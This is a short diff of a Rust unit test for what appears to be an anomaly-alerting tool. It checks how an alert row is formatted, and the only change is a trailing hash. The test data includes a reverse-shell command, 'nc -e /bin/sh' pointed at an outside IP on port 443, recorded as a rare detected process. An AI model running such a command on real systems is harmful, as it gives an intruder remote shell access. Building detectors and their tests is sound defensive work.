@@ -15,7 +15,7 @@ fn an_alert_is_a_row() {
         2,nc,nc -e /bin/sh 93.184.216.34 443,lab,93.184.216.34,443,2026-08-14T10:15:00.000Z,,1,\
         1289,none,4.82017e-4,low,21,false,false,,\"nc was seen in 1 of 1,289 active quarter-hours \
         since 1 Aug, never before; 5 other programs make up the rest; in about 11 of them it would \
-        be ordinary (score below 50)\",f00fda447bdf3f30\n"
+        be ordinary (score below 50)\",92b0934275dccf84\n"
     );
 }
 
